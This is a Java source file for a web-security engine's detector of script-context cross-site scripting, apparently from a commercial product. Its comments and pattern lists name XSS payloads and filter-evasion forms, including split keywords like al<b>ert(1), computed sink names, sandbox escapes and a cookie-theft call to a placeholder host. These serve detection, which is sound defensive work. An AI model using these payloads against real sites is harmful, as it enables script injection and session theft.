package ai.traceable.tme.engine.detect.xss;

import ai.traceable.tme.engine.detect.AttackClass;
import ai.traceable.tme.engine.detect.Chars;
import ai.traceable.tme.engine.detect.DetectionRule;
import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.FoundRules;
import ai.traceable.tme.engine.detect.Gate;
import ai.traceable.tme.engine.detect.Hits;
import ai.traceable.tme.engine.detect.Markers;
import ai.traceable.tme.engine.detect.RuleTable;
import ai.traceable.tme.engine.detect.Severity;
import ai.traceable.tme.engine.detect.Text;
import ai.traceable.tme.engine.inspect.Inspected;

/**
 * Cross-site scripting with no HTML around it: a value reflected into a script (a JSONP callback, a
 * string in inline JavaScript, a template literal) needs no tag, only an expression. This detector
 * finds dialog and code sinks called with an argument ({@code alert(1)}, {@code alert`1`}, {@code
 * (alert)(1)}, {@code eval(atob(...))}, {@code setTimeout('...')}), sink names built at run time
 * ({@code top['al'+'ert']}, {@code window[String.fromCharCode(...)]}, {@code self[atob(...)]}),
 * sandbox escapes ({@code [].constructor.constructor(...)}), sinks passed as values ({@code
 * [1].map(alert)}, {@code onerror=alert}), cookie theft ({@code fetch('//x/?c='+document.cookie)})
 * and script loading from the DOM, also when short tags were inserted inside the keywords ({@code
 * al<b>ert(1)}) for a filter to strip. It complements the {@code xss} markup detector, which judges
 * tags and attributes; words in prose ("alert, confirm and prompt", "window seat", "top picks") are
 * no calls. Stateless.
 */
public final class BareScriptDetector implements Detector {
  private static final RuleTable.Builder RULES = RuleTable.builder(AttackClass.XSS);
  static final DetectionRule SINK_CALL =
      RULES.add(
          "xss-200",
          Severity.CRITICAL,
          1,
          "dialog or code sink called with an argument (alert(1), eval(...), alert`1`)");
  static final DetectionRule COMPUTED_NAME =
      RULES.add(
          "xss-210",
          Severity.CRITICAL,
          1,
          "global property named at run time (top['al'+'ert'], window[atob(...)])");
  static final DetectionRule ESCAPE =
      RULES.add(
          "xss-220",
          Severity.CRITICAL,
          1,
          "sandbox escape, sink passed as a value or cookie theft");
  static final DetectionRule SPLIT_KEYWORD =
      RULES.add(
          "xss-230",
          Severity.CRITICAL,
          1,
          "sink call spelled out once inserted tags are removed (al<b>ert(1))");
  static final RuleTable TABLE = RULES.build();

  private static final Markers SINKS =
      Markers.builder()
          .add(SINK_CALL, BareScriptDetector::dialogCall, "alert", "confirm", "prompt")
          .add(
              SINK_CALL,
              BareScriptDetector::codeCall,
              "eval",
              "settimeout",
              "setinterval",
              "function",
              "import",
              "execscript")
          .add(
              COMPUTED_NAME,
              BareScriptDetector::computedName,
              "top[",
              "window[",
              "self[",
              "parent[",
              "frames[",
              "globalthis[",
              "document[",
              "this[",
              "content[",
              "opener[")
          .add(
              ESCAPE,
              Markers.ANYWHERE,
              "constructor.constructor(",
              "constructor['constructor']",
              "reflect.apply(alert",
              "reflect.apply(eval",
              "reflect.apply(prompt",
              "reflect.apply(confirm",
              ".map(alert)",
              ".map(eval)",
              ".map(prompt)",
              ".map(confirm)",
              "+document.cookie",
              "+ document.cookie",
              "location='javascript:",
              "location=\"javascript:",
              "location.href='javascript:",
              "onerror=alert",
              "onerror=eval",
              "onerror=prompt")
          .add(
              ESCAPE,
              BareScriptDetector::scriptElementFromText,
              "createelement('script",
              "createelement(\"script",
              "createelement(`script")
          .add(ESCAPE, BareScriptDetector::aliased, "=alert", "=eval", "=prompt", "=confirm")
          .build();

  /** Every rule is a sink marker, found in the value or once short tags are cut out of it. */
  private static final Gate GATE = Gate.anyOf("<").or(SINKS);

  @Override
  public Gate gate() {
    return GATE;
  }

  @Override
  public RuleTable table() {
    return TABLE;
  }

  @Override
  public void inspect(Inspected value, Hits hits) {
    String s = value.decoded();
    if (s.indexOf('(') < 0 && s.indexOf('`') < 0 && s.indexOf('[') < 0 && s.indexOf('=') < 0) {
      return;
    }
    FoundRules found = new FoundRules(TABLE);
    SINKS.scan(s, found);
    if (!found.critical() && s.indexOf('<') >= 0) {
      String stripped = withoutShortTags(s);
      if (stripped.length() < s.length()) {
        FoundRules inner = new FoundRules(TABLE);
        SINKS.scan(stripped, inner);
        if (inner.critical()) {
          found.record(SPLIT_KEYWORD, s, 0);
        }
      }
    }
    found.report(hits);
  }

  /**
   * {@code alert(1)}, {@code alert`1`}, {@code (alert)(1)}: called, and the argument is a number, a
   * string, a template, a DOM object or empty — prose puts words there.
   */
  static boolean dialogCall(String s, int start, int end) {
    if (!sinkStart(s, start)) {
      return false;
    }
    int i = end;
    if (Text.charAt(s, i) == ')'
        && Text.charAt(s, i + 1) == '('
        && start > 0
        && s.charAt(start - 1) == '(') {
      i++;
    }
    char c = Text.charAt(s, i);
    if (c == '`') {
      return taggedTemplate(s, start, i);
    }
    if (c != '(') {
      return false;
    }
    int a = Text.skipBlanks(s, i + 1);
    char first = Text.charAt(s, a);
    return Chars.isAsciiDigit(first) && numberCloses(s, a)
        || Chars.isQuote(first)
        || first == '`'
        || first == ')'
        || first == '/'
        || first == '['
        || first == '{'
        || Text.startsWithIgnoreCase(s, a, s.length(), "document")
        || Text.startsWithIgnoreCase(s, a, s.length(), "window")
        || Text.startsWithIgnoreCase(s, a, s.length(), "location")
        || Text.startsWithIgnoreCase(s, a, s.length(), "origin")
        || Text.startsWithIgnoreCase(s, a, s.length(), "this");
  }

  /**
   * {@code eval('...')}, {@code setTimeout('...')}, {@code Function('...')()}, {@code
   * import('//x/a.js')}: called with a string, a decoding or concatenating call, or a template.
   */
  static boolean codeCall(String s, int start, int end) {
    if (!sinkStart(s, start) || Text.charAt(s, end) != '(' && Text.charAt(s, end) != '`') {
      return false;
    }
    if (Text.charAt(s, end) == '`') {
      return taggedTemplate(s, start, end);
    }
    int a = Text.skipBlanks(s, end + 1);
    char first = Text.charAt(s, a);
    if (Chars.isQuote(first) || first == '`') {
      return !Text.equalsIgnoreCase(s, start, end, "import")
          || s.startsWith("//", a + 1)
          || Text.startsWithIgnoreCase(s, a + 1, s.length(), "http")
          || Text.startsWithIgnoreCase(s, a + 1, s.length(), "data:");
    }
    return Text.startsWithIgnoreCase(s, a, s.length(), "atob(")
        || Text.startsWithIgnoreCase(s, a, s.length(), "string.fromcharcode(")
        || Text.startsWithIgnoreCase(s, a, s.length(), "unescape(")
        || Text.startsWithIgnoreCase(s, a, s.length(), "decodeuri")
        || Text.startsWithIgnoreCase(s, a, s.length(), "location.");
  }

  /**
   * A script element built in a one-line value and pointed at another origin; pages' own loader
   * snippets span lines.
   */
  static boolean scriptElementFromText(String s, int start, int end) {
    if (s.indexOf('\n') >= 0) {
      return false;
    }
    int src = Text.indexOfIgnoreCase(s, ".src", end, Math.min(s.length(), end + 200));
    return src > 0 && Text.indexOf(s, '/', src, Math.min(s.length(), src + 12)) > 0;
  }

  /** A number that closes the call: {@code 1)}, not "1 new)" of a label such as "Alert(1 new)". */
  private static boolean numberCloses(String s, int at) {
    int i = at;
    while (i < s.length() && i - at < 16 && Chars.isAsciiDigit(s.charAt(i))) {
      i++;
    }
    return Text.charAt(s, i) == ')';
  }

  /**
   * {@code alert`1`}: a template right after the name, with content, and the name not itself in
   * backticks as Markdown writes code ({@code `alert`}).
   */
  private static boolean taggedTemplate(String s, int start, int tick) {
    if (start > 0 && s.charAt(start - 1) == '`') {
      return false;
    }
    int close = Text.indexOf(s, '`', tick + 1, tick + 65);
    return close > tick + 1;
  }

  /** The sink name is not the tail of a longer identifier or a property of another object. */
  private static boolean sinkStart(String s, int start) {
    if (start == 0) {
      return true;
    }
    char b = s.charAt(start - 1);
    if (b == '.') {
      return start >= 7 && Text.startsWithIgnoreCase(s, start - 7, start, "window.")
          || start >= 4 && Text.startsWithIgnoreCase(s, start - 4, start, "top.")
          || start >= 5 && Text.startsWithIgnoreCase(s, start - 5, start, "self.");
    }
    return !(Chars.isAsciiAlnum(b) || b == '_' || b == '$');
  }

  /** {@code top['al'+'ert']}, {@code self[atob(..)]}, {@code top[/al/.source+...]}. */
  static boolean computedName(String s, int start, int end) {
    if (!Markers.wordStart(s, start)) {
      return false;
    }
    char c = Text.charAt(s, end);
    if (Chars.isQuote(c) || c == '`' || c == '/') {
      int close = Text.indexOf(s, ']', end, end + 64);
      if (close < 0) {
        return false;
      }
      // a name put together from pieces, or a property called at once
      return s.substring(end, close).indexOf('+') >= 0 || Text.charAt(s, close + 1) == '(';
    }
    return Text.startsWithIgnoreCase(s, end, s.length(), "atob(")
        || Text.startsWithIgnoreCase(s, end, s.length(), "string.fromcharcode(")
        || Text.startsWithIgnoreCase(s, end, s.length(), "unescape(");
  }

  /** {@code a=alert,a(1)}: a sink assigned to a variable, not a word such as {@code =alerts}. */
  static boolean aliased(String s, int start, int end) {
    char c = Text.charAt(s, end);
    if (c != ',' && c != ';') {
      return false;
    }
    int name = start;
    while (name > 0 && (Chars.isAsciiAlnum(s.charAt(name - 1)) || s.charAt(name - 1) == '_')) {
      name--;
    }
    if (name == start || start - name > 32) {
      return false;
    }
    // the alias must be called afterwards: a=alert,a(1)
    String call = s.substring(name, start) + "(";
    int at = s.indexOf(call, end);
    return at > end && !Chars.isAsciiAlnum(s.charAt(at - 1));
  }

  /** The value with tags of up to 12 characters ({@code <b>}, {@code </script>}) removed. */
  static String withoutShortTags(String s) {
    StringBuilder out = new StringBuilder(s.length());
    int i = 0;
    while (i < s.length()) {
      char c = s.charAt(i);
      if (c == '<') {
        int close = Text.indexOf(s, '>', i + 1, i + 13);
        char next = Text.charAt(s, i + 1);
        if (close > i && close - i <= 12 && (Chars.isAsciiLetter(next) || next == '/')) {
          i = close + 1;
          continue;
        }
      }
      out.append(c);
      i++;
    }
    return out.toString();
  }
}
